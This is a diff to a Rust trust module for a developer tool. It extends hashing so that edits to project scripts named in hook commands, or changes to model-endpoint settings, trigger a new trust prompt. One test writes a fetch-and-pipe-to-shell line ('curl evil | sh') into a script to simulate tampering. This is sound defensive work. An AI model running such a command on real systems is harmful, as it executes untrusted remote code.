@@ -1,14 +1,17 @@
-//! Trust for what a project's `.etch/config.toml` would run: a repository
-//! someone clones must not run commands on their machine just because
-//! etch was started in it. The project's executable entries (hooks,
-//! plugins and MCP servers: a stdio server runs a program, an HTTP server
-//! gets the user's tokens) are hashed (SHA-256 of a canonical form); the
-//! hashes the user
-//! trusted are kept in `~/.etch/trust.json`, by project file. A project
-//! whose entries are new or changed since they were trusted is not
-//! trusted. Entries from the user's own `~/.etch/config.toml` are always
-//! trusted. This module decides and stores; it must not know how entries
-//! run or how the user is asked.
+//! Trust for what a project's `.etch/config.toml` would run or choose: a
+//! repository someone clones must not run commands on their machine, nor
+//! pick the model that runs tools, just because etch was started in it.
+//! The project's executable entries (hooks, plugins and MCP servers: a
+//! stdio server runs a program, an HTTP server gets the user's tokens),
+//! the contents of the project files their commands name (a trusted
+//! `./scripts/guard.sh` must not change behind the user's back), and its
+//! gated settings (the model's endpoint, what tools may do: the `gated`
+//! module) are hashed together (SHA-256 of a canonical form); the hashes
+//! the user trusted are kept in `~/.etch/trust.json`, by project file. A
+//! project whose entries are new or changed since they were trusted is
+//! not trusted. Entries from the user's own `~/.etch/config.toml` are
+//! always trusted. This module decides and stores; it must not know how
+//! entries run or how the user is asked.
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
@@ -58,8 +61,9 @@ pub enum TrustError {
     },
 }
 
-/// The project files among the sources of `config`'s executable entries:
-/// every source that is not the user's own `~/.etch/config.toml`, sorted.
+/// The project files among the sources of `config`'s executable entries
+/// and gated settings: every source that is not the user's own
+/// `~/.etch/config.toml`, sorted.
 pub fn project_files(config: &Config, home: Option<&Path>) -> Vec<PathBuf> {
     let user = home.map(|h| h.join(".etch").join("config.toml"));
     let mut files: Vec<PathBuf> = config
@@ -68,6 +72,7 @@ pub fn project_files(config: &Config, home: Option<&Path>) -> Vec<PathBuf> {
         .map(|h| h.source.clone())
         .chain(config.plugins.iter().map(|p| p.source.clone()))
         .chain(config.mcp_servers.iter().map(|m| m.source.clone()))
+        .chain(config.project_settings.iter().map(|s| s.source.clone()))
         .filter(|s| Some(s) != user.as_ref() && s.as_os_str() != crate::config::EDITOR_SOURCE)
         .collect();
     files.sort();
@@ -75,10 +80,23 @@ pub fn project_files(config: &Config, home: Option<&Path>) -> Vec<PathBuf> {
     files
 }
 
-/// The project's executable entries in a canonical form, for display and
-/// hashing; empty when it has none. Each has a `kind`: `hook`, `plugin` or
-/// `mcp server` (every key of the entry, so any change asks for trust again).
+/// The project's executable entries and gated settings in a canonical
+/// form, for display and hashing; empty when it has none. Each has a
+/// `kind`: `hook`, `plugin`, `mcp server` (every key of the entry, so any
+/// change asks for trust again, plus `pins`, the SHA-256 of each project
+/// file its command names, when there are any) or `setting` (`key`,
+/// `label`, `value` as TOML).
 pub fn project_entries(config: &Config, project_file: &Path) -> Vec<Value> {
+    let root = crate::discover::project_root(project_file);
+    let pinned = |mut entry: Value, words: &[&str]| {
+        let pins = root.as_deref().map(|r| pins(r, words)).unwrap_or_default();
+        // Named only when there are some, so an entry whose command names
+        // no project file hashes as it did before pins existed.
+        if !pins.is_empty() {
+            entry["pins"] = Value::Object(pins);
+        }
+        entry
+    };
     config
         .hooks
         .iter()
@@ -97,7 +115,7 @@ pub fn project_entries(config: &Config, project_file: &Path) -> Vec<Value> {
             if h.protocol != "etch" {
                 entry["protocol"] = json!(h.protocol);
             }
-            entry
+            pinned(entry, &[&h.command])
         })
         .chain(
             config
@@ -105,14 +123,15 @@ pub fn project_entries(config: &Config, project_file: &Path) -> Vec<Value> {
                 .iter()
                 .filter(|p| p.source == project_file)
                 .map(|p| {
-                    json!({
+                    let entry = json!({
                         "kind": "plugin",
                         "name": p.name,
                         "command": p.command,
                         "timeoutSeconds": p.timeout_seconds,
                         "env": p.env,
                         "disabled": p.disabled,
-                    })
+                    });
+                    pinned(entry, &[&p.command])
                 }),
         )
         .chain(
@@ -121,7 +140,10 @@ pub fn project_entries(config: &Config, project_file: &Path) -> Vec<Value> {
                 .iter()
                 .filter(|m| m.source == project_file)
                 .map(|m| {
-                    json!({
+                    let words: Vec<&str> = std::iter::once(m.command.as_str())
+                        .chain(m.args.iter().map(String::as_str))
+                        .collect();
+                    let entry = json!({
                         "kind": "mcp server",
                         "name": m.name,
                         "command": m.command,
@@ -134,17 +156,83 @@ pub fn project_entries(config: &Config, project_file: &Path) -> Vec<Value> {
                         "disabled": m.disabled,
                         "enabledTools": m.enabled_tools,
                         "disabledTools": m.disabled_tools,
+                    });
+                    pinned(entry, &words)
+                }),
+        )
+        .chain(
+            config
+                .project_settings
+                .iter()
+                .filter(|s| s.source == project_file)
+                .map(|s| {
+                    json!({
+                        "kind": "setting",
+                        "key": s.key,
+                        "profile": s.profile,
+                        "label": s.label,
+                        "value": s.value,
                     })
                 }),
         )
         .collect()
 }
 
+/// Characters that end a word of a shell command for [`pins`]: a file
+/// named after a redirection or inside quotes is still the same file.
+const SHELL_BREAKS: &[char] = &[
+    ' ', '\t', '\n', ';', '|', '&', '<', '>', '(', ')', '`', '\'', '"', '=', '$', '{', '}',
+];
+
+/// The project files `words` (a command line, or a program and its
+/// arguments) name, each with the SHA-256 of its contents, by path
+/// relative to the project `root`. A word names a file when, taken
+/// relative to the root (or as an absolute path), it is a regular file
+/// inside the root once symlinks are resolved; programs found on PATH,
+/// files outside the project, and whatever a named file runs in turn are
+/// not pinned (`etch trust` says so).
+pub fn pins(root: &Path, words: &[&str]) -> serde_json::Map<String, Value> {
+    let mut found = serde_json::Map::new();
+    let Ok(root) = root.canonicalize() else {
+        return found;
+    };
+    for word in words.iter().flat_map(|w| w.split(SHELL_BREAKS)) {
+        if word.is_empty() || word.starts_with('-') || word == "." || word == ".." {
+            continue;
+        }
+        let Ok(path) = root.join(word).canonicalize() else {
+            continue;
+        };
+        let Ok(relative) = path.strip_prefix(&root) else {
+            continue;
+        };
+        if !path.is_file() {
+            continue;
+        }
+        let key = relative.to_string_lossy().into_owned();
+        if found.contains_key(&key) {
+            continue;
+        }
+        // An unreadable file pins as such: when it becomes readable, what
+        // it holds was never seen, so trust is asked again.
+        let digest = std::fs::read(&path).map_or_else(
+            |e| format!("unreadable: {}", e.kind()),
+            |bytes| hex(ring::digest::digest(&ring::digest::SHA256, &bytes).as_ref()),
+        );
+        found.insert(key, Value::String(digest));
+    }
+    found
+}
+
+/// Lowercase hex of `bytes`.
+fn hex(bytes: &[u8]) -> String {
+    bytes.iter().map(|b| format!("{b:02x}")).collect()
+}
+
 /// The hash of `entries` (lowercase hex SHA-256 of their JSON).
 pub fn hash(entries: &[Value]) -> String {
     let text = Value::Array(entries.to_vec()).to_string();
-    let digest = ring::digest::digest(&ring::digest::SHA256, text.as_bytes());
-    digest.as_ref().iter().map(|b| format!("{b:02x}")).collect()
+    hex(ring::digest::digest(&ring::digest::SHA256, text.as_bytes()).as_ref())
 }
 
 /// The trusted hashes, by project file.
@@ -345,6 +433,62 @@ mod tests {
         let mut filtered = first;
         filtered.mcp_servers[0].enabled_tools = Some(vec!["git_status".into()]);
         assert_eq!(store.state(&filtered, project), TrustState::Changed);
+    }
+
+    /// A hook naming a project script pins the script's contents: an
+    /// edit to the script asks for trust again; a program from PATH and
+    /// a file outside the project are not pinned.
+    #[test]
+    fn scripts_a_command_names_are_pinned() {
+        let home = tempfile::tempdir().unwrap();
+        let project = tempfile::tempdir().unwrap();
+        let root = project.path();
+        std::fs::create_dir_all(root.join(".etch")).unwrap();
+        std::fs::create_dir_all(root.join("scripts")).unwrap();
+        std::fs::write(root.join("scripts/guard.sh"), "exit 0\n").unwrap();
+        let file = root.join(".etch/config.toml");
+        let guarded = config(
+            "./scripts/guard.sh --strict && sh -c 'cat /etc/hostname'",
+            &file,
+        );
+        let entries = project_entries(&guarded, &file);
+        let pins = entries[0]["pins"].as_object().unwrap();
+        assert_eq!(pins.keys().collect::<Vec<_>>(), ["scripts/guard.sh"]);
+        let mut store = TrustStore::load(home.path()).unwrap();
+        store.trust(&guarded, &file).unwrap();
+        assert_eq!(store.state(&guarded, &file), TrustState::Trusted);
+        std::fs::write(root.join("scripts/guard.sh"), "curl evil | sh\n").unwrap();
+        assert_eq!(store.state(&guarded, &file), TrustState::Changed);
+        // A command naming no project file hashes as before pins existed.
+        let plain = config("cargo fmt --check", &file);
+        assert!(project_entries(&plain, &file)[0].get("pins").is_none());
+    }
+
+    /// A project setting that picks the model is listed and pinned like
+    /// a command: a new endpoint asks for trust again.
+    #[test]
+    fn gated_settings_are_pinned() {
+        let home = tempfile::tempdir().unwrap();
+        let project = Path::new("/p/.etch/config.toml");
+        let mut config = Config::default();
+        config.project_settings.push(crate::GatedSetting {
+            label: "[openai] base_url".into(),
+            key: "openai.base_url".into(),
+            profile: None,
+            value: "\"http://a/v1\"".into(),
+            why: "w",
+            source: project.to_path_buf(),
+        });
+        assert_eq!(project_files(&config, Some(home.path())), [project]);
+        let entries = project_entries(&config, project);
+        assert_eq!(entries[0]["kind"], "setting");
+        assert_eq!(entries[0]["label"], "[openai] base_url");
+        let mut store = TrustStore::load(home.path()).unwrap();
+        assert_eq!(store.state(&config, project), TrustState::Untrusted);
+        store.trust(&config, project).unwrap();
+        assert_eq!(store.state(&config, project), TrustState::Trusted);
+        config.project_settings[0].value = "\"http://b/v1\"".into();
+        assert_eq!(store.state(&config, project), TrustState::Changed);
     }
 
     #[test]
